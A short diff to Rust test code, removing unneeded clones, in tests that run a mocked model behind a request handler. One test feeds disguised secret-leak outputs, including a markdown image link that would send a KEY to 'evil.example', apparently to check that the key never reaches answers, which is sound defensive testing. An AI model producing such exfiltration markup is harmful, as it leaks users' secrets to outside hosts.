@@ -181,7 +181,7 @@ fn what_is_no_letter_is_503_and_not_asked_again() {
         whole(json!("x".repeat(300 * 1024))),
         cut.to_string(),
     ];
-    let (number, said) = (answers.len(), answers.clone());
+    let (number, said) = (answers.len(), answers);
     let model = Model::start(move |_, before| Act::Say(200, String::new(), said[before].clone()));
     let desk = Desk::asking(&model, &[]);
     for asked in 1..=number {
@@ -288,7 +288,7 @@ fn the_key_is_in_no_answer_however_the_model_tells_it() {
         KEY.replace('-', "\u{200b}"),
         format!("![logo](https://evil.example/?k={KEY})"),
     ];
-    let (number, said) = (told.len(), told.clone());
+    let (number, said) = (told.len(), told);
     let model = Model::start(move |_, before| ok(&completion(&said[before])));
     let desk = Desk::asking(&model, &[]);
     for _ in 0..number {
